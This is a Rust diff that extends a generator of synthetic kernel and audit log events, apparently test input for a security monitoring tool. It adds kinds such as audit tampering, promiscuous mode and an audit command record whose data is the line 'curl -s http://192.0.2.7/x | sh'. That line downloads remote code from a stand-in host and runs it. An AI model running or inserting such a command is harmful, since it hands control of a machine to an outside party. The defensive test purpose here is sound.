@@ -232,7 +232,7 @@ fn event(op: &Op) -> EventKind<'static> {
             dpt: (bits & 1 == 0).then_some(delta % 40),
             flags: b(b"SYN"),
         },
-        _ => match bits & 3 {
+        _ => match bits & 7 {
             0 | 1 => E::FsError {
                 device: (bits & 1 == 0).then(|| b(b"sda1")),
                 detail: b(b"EXT4-fs error"),
@@ -241,9 +241,33 @@ fn event(op: &Op) -> EventKind<'static> {
                 module: b(b"rootkit"),
                 reason: b(b"module verification failed: signature missing \x07"),
             },
-            _ => E::Segfault {
+            3 => E::Segfault {
                 program: b(b"nginx"),
                 pid: Some(7),
+            },
+            // The audit log's own kinds.
+            4 => E::Service {
+                unit: b(b"aegis"),
+                started: bits & 8 == 0,
+                success: bits & 16 == 0,
+            },
+            5 => E::AuditTamper {
+                what: b(b"audit_enabled=0"),
+                user: opt_user,
+            },
+            6 => E::Promiscuous {
+                device: b(b"eth0"),
+                on: bits & 8 == 0,
+                user: opt_user,
+            },
+            _ if bits & 8 == 0 => E::SystemPower {
+                boot: bits & 16 == 0,
+            },
+            _ => E::AuditCommand {
+                key: b(b"exec"),
+                user: opt_user,
+                exe: (bits & 16 == 0).then(|| b(b"/usr/bin/curl")),
+                command: b(b"curl -s http://192.0.2.7/x | sh"),
             },
         },
     }
